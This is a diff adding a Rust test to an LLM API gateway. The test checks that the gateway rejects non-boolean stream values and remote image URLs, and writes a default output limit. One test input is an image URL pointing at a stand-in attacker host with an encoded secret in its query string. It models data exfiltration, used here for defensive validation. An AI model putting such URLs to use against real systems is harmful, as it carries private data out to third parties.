@@ -387,3 +387,64 @@ async fn every_choice_asked_for_is_reserved() {
         );
     }
 }
+
+/// What a router would read as more than it was reserved for is refused or bounded before any
+/// upstream call: a `stream` that is not a boolean (a lax router reads `1` as true and streams
+/// without the usage chunk the gateway forces on), media it would fetch (its cost is not in the
+/// request, and its URL can carry data out), and a request with no output limit gets one
+/// written, the output it reserved.
+#[tokio::test]
+async fn what_a_router_would_read_otherwise_is_refused_or_bounded() {
+    let (fake, gw) = start(&json!({"fallback": {
+        "text": "ok", "usage": {"input_tokens": 10, "output_tokens": 2}
+    }}));
+    open(&gw, "lax", "rollout", json!({})).await;
+    for stream in [json!(1), json!("true"), json!({})] {
+        let mut body = chat(false);
+        body["stream"] = stream.clone();
+        let r = post(&gw, "lax", "/v1/chat/completions", &[AUTH], &body).await;
+        assert_eq!(r.status, 400, "stream = {stream}: {}", r.text);
+        assert!(r.text.contains("stream: expected a boolean"), "{}", r.text);
+    }
+    let image = |url: &str| {
+        let mut body = chat(false);
+        body["messages"][0]["content"] = json!([
+            {"type": "text", "text": "describe"},
+            {"type": "image_url", "image_url": {"url": url}}
+        ]);
+        body
+    };
+    let r = post(
+        &gw,
+        "lax",
+        "/v1/chat/completions",
+        &[AUTH],
+        &image("https://attacker.example/x.png?d=c2VjcmV0"),
+    )
+    .await;
+    assert_eq!(r.status, 400, "{}", r.text);
+    assert!(r.text.contains("content[1].image_url"), "{}", r.text);
+    assert!(
+        fake.requests().unwrap().is_empty(),
+        "refused requests reached the router: {:?}",
+        fake.requests().unwrap()
+    );
+    // Inline media goes through, and counts at least an image in the reservation.
+    let r = post(
+        &gw,
+        "lax",
+        "/v1/chat/completions",
+        &[AUTH],
+        &image("data:image/png;base64,AAAA"),
+    )
+    .await;
+    assert_eq!(r.status, 200, "{}", r.text);
+    // No output limit: the default is written, so the router stops where the reservation did.
+    let mut body = chat(false);
+    body.as_object_mut().unwrap().remove("max_tokens");
+    let r = post(&gw, "lax", "/v1/chat/completions", &[AUTH], &body).await;
+    assert_eq!(r.status, 200, "{}", r.text);
+    let reqs = fake.requests().unwrap();
+    assert_eq!(reqs.len(), 2);
+    assert_eq!(reqs[1]["body"]["max_tokens"], 4096, "{}", reqs[1]);
+}
